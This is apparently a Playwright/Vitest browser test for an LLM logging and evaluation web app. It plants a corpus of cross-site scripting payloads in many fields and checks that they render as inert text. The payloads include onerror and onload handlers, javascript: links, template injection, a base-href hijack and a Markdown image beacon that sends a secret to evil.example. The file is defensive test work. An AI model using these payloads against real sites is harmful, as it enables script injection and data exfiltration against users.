import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeInBrowser, launchBrowser, watch } from './browser.ts';
import { eventually, owner, startWhetstone, type Whetstone } from './whetstone.ts';

/** T5, F27: text that a model or a user wrote is text, in every field and every view. */
const corpus = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)>',
  '<iframe srcdoc="<script>parent.alert(4)</script>"></iframe>',
  '[click](javascript:alert(5))',
  '![exfiltrate](https://evil.example/pixel.png?secret=1)',
  '<a href="https://evil.example/" onclick=alert(6)>x</a>',
  '"><style>@import url(https://evil.example/style.css)</style>',
  '<base href="https://evil.example/">',
  '{{constructor.constructor("alert(7)")()}}',
  '\u202Egnp.exe',
].join('\n\n');

describeInBrowser('T5 F27 hostile text', () => {
  let whetstone: Whetstone;
  let browser: Browser;
  let page: Page;
  let seen: ReturnType<typeof watch>;
  let logId = '';
  let fileId = '';

  const send = async (method: string, path: string, body: unknown): Promise<Record<string, unknown>> => {
    const response = await fetch(`${whetstone.url}/v5${path}`, {
      method,
      headers: { 'x-api-key': whetstone.apiKey, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
    return (await response.json()) as Record<string, unknown>;
  };

  beforeAll(async () => {
    whetstone = await startWhetstone();
    const prompt = await send('POST', '/prompts', {
      path: 'hostile/<img src=x onerror=alert(8)>',
      model: '<b onclick=alert(9)>model</b>',
      template: [
        { role: 'system', content: corpus.replace('{{', '{ {') },
        {
          role: 'user',
          content: [
            { type: 'text', text: corpus.replace('{{', '{ {') },
            { type: 'image_url', image_url: { url: 'https://evil.example/picture.png' } },
          ],
        },
      ],
      version_name: '<script>alert(10)</script>',
      version_description: corpus,
    });
    fileId = prompt['id'] as string;
    const log = await send('POST', '/prompts/log', {
      id: fileId,
      inputs: { '<img src=x onerror=alert(11)>': corpus },
      messages: [
        {
          role: 'user',
          content: [
            { type: 'text', text: corpus },
            { type: 'image_url', image_url: { url: 'https://evil.example/picture.png' } },
            { type: 'image_url', image_url: { url: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(12)"/>' } },
          ],
        },
        {
          role: 'assistant',
          content: corpus,
          tool_calls: [{ id: 'c', type: 'function', function: { name: '<svg onload=alert(13)>', arguments: corpus } }],
        },
        { role: 'tool', tool_call_id: 'c', content: corpus },
      ],
      output: corpus,
      error: corpus,
      stdout: corpus,
      user: '<img src=x onerror=alert(14)>',
      session: '"><script>alert(15)</script>',
      metadata: { '<script>': corpus },
      provider_response: { text: corpus },
    });
    logId = log['id'] as string;
    await send('POST', '/evaluators/log', {
      path: 'feedback/comment',
      parent_id: logId,
      judgment: corpus,
      user: '<img src=x onerror=alert(16)>',
    });
    browser = await launchBrowser();
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const signedIn = await context.request.post(`${whetstone.url}/api/auth/sign-in/email`, {
      data: owner,
      headers: { origin: whetstone.url },
    });
    expect(signedIn.status()).toBe(200);
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    seen = watch(page, whetstone.url);
    await eventually(
      'the log in the list',
      async () =>
        ((await (await fetch(`${whetstone.url}/v5/logs`, { headers: { 'x-api-key': whetstone.apiKey } })).json()) as { total: number })
          .total > 0,
    );
  });
  afterAll(async () => {
    await browser?.close();
    await whetstone?.close();
  });

  const quiet = { problems: [], elsewhere: [], dialogs: [] };
  const open = async (path: string): Promise<void> => {
    await page.goto(`${whetstone.url}/w/main${path}`);
    // The logs page keeps a stream of events open, so the network is never idle.
    await page.waitForTimeout(1200);
  };

  it('is shown in every view without running, loading or asking anything', async () => {
    for (const path of [
      '',
      '/logs',
      `/logs/${logId}`,
      `/logs/${logId}/playground`,
      `/files/${fileId}`,
      `/files/${fileId}/versions`,
      `/files/${fileId}/logs`,
      `/files/${fileId}/deployments`,
    ]) {
      await open(path);
      expect(seen, path).toEqual(quiet);
    }
  });

  it('is still text when shown as Markdown, as a trace and raw', async () => {
    await open(`/logs/${logId}`);
    expect(await page.getByText('<script>alert(1)</script>').count()).toBeGreaterThan(0);
    for (const name of [/Markdown/, /^Trace$/, /^Raw$/]) {
      const control = page.getByRole('button', { name }).or(page.getByRole('radio', { name })).or(page.getByRole('tab', { name })).first();
      await control.click();
      await page.waitForTimeout(300);
    }
    expect(seen).toEqual(quiet);
  });

  it('is text in what judges it: feedback, experiments, cases, runs, reviews and monitors', { timeout: 90_000 }, async () => {
    const name = '<img src=x onerror=alert(17)>';
    await send('POST', '/feedback', {
      feedback: [
        { log_id: logId, kind: 'vote', value: 'bad', user: name, comment: corpus },
        { log_id: logId, kind: 'correction', value: `${corpus} corrected <svg onload=alert(18)>`, user: name, metadata: { '<b>': corpus } },
      ],
    });
    const options = [
      { name, valence: 'positive' },
      { name: '"><script>alert(19)</script>', valence: 'negative' },
    ];
    const human = await send('POST', '/evaluators', {
      path: 'hostile/<svg onload=alert(20)>',
      description: corpus,
      spec: { evaluator_type: 'human', arguments_type: 'target_free', return_type: 'select', options, instructions: corpus },
    });
    const external = await send('POST', '/evaluators', {
      path: 'hostile/external',
      spec: { evaluator_type: 'external', arguments_type: 'target_free', return_type: 'boolean' },
    });
    const second = await send('POST', '/prompts', { id: fileId, model: name, template: corpus.replace('{{', '{ {'), version_name: name });
    const environments = (await (
      await fetch(`${whetstone.url}/v5/prompts/${fileId}/environments`, { headers: { 'x-api-key': whetstone.apiKey } })
    ).json()) as { id: string; name: string }[];
    const [production] = environments;
    const experiment = await send('POST', '/experiments', {
      name,
      hypothesis: corpus,
      file_id: fileId,
      environment: production?.name,
      arms: [
        { weight: 0.5, name: 'control' },
        { version_id: second['version_id'], weight: 0.5, name },
      ],
      metric: { name, value: 'vote:good' },
      guards: [{ metric: { name: corpus.slice(0, 90), value: 'latency', direction: 'down' }, bound: { difference: 10 } }],
      smallest_difference: 0.1,
    });
    await send('POST', `/experiments/${experiment['id'] as string}/start`, {});
    await send('POST', `/experiments/${experiment['id'] as string}/stop`, { arm_id: 'b', reason: corpus.slice(0, 900) });
    const dataset = await send('POST', '/datasets', {
      path: `hostile/${name} cases`,
      datapoints: [
        {
          inputs: { '<script>': corpus },
          messages: [{ role: 'user', content: corpus }],
          target: { output: corpus },
          tags: [name],
          split: name,
        },
      ],
    });
    const evaluation = await send('POST', '/evaluations', {
      name,
      file: { id: fileId },
      evaluators: [{ version_id: external['version_id'], orchestrated: false }],
    });
    const run = await send('POST', `/evaluations/${evaluation['id'] as string}/runs`, {
      dataset: { version_id: dataset['version_id'] },
      version: { version_id: second['version_id'] },
    });
    const answered = await send('POST', '/prompts/log', {
      id: fileId,
      version_id: second['version_id'],
      run_id: run['id'],
      output: corpus,
      error: corpus,
    });
    await send('POST', '/evaluators/log', { path: 'hostile/external', parent_id: answered['id'], judgment: false, reason: corpus });
    const queue = await send('POST', '/reviews', {
      name,
      instructions: corpus,
      evaluators: [{ id: human['id'] }],
      source: { type: 'filter', file_id: [fileId] },
    });
    const monitor = await send('POST', '/monitors', {
      file_id: fileId,
      evaluator: { version_id: external['version_id'] },
      filter: '',
    }).catch(() => null);
    if (monitor !== null)
      await send('POST', `/monitors/${monitor['id'] as string}/alerts`, {
        name,
        rule: { type: 'threshold', side: 'below', value: 0.5, over: { logs: 20 } },
      });
    for (const path of [
      '/feedback',
      `/files/${fileId}/feedback`,
      `/logs/${logId}`,
      '/experiments',
      `/experiments/${experiment['id'] as string}`,
      `/experiments/new?file=${fileId}`,
      `/files/${fileId}/experiments`,
      `/files/${dataset['id'] as string}`,
      `/files/${human['id'] as string}`,
      '/evaluations',
      `/evaluations/${evaluation['id'] as string}`,
      '/review',
      '/review/judges',
      `/review/${queue['id'] as string}`,
      `/review/${queue['id'] as string}/go`,
      `/files/${fileId}/monitoring`,
      '/settings/audit',
    ]) {
      await open(path);
      expect(seen, path).toEqual(quiet);
    }
    await open(`/experiments/${experiment['id'] as string}`);
    expect(await page.textContent('body')).toContain('onerror=alert(17)');
  });

  it('has been looked at: the page really holds the text', async () => {
    await open(`/logs/${logId}`);
    await expect.poll(async () => (await page.textContent('body'))?.includes('onerror=alert(2)')).toBe(true);
    expect(await page.locator('img[src*="evil.example"]').count()).toBe(0);
  });
});
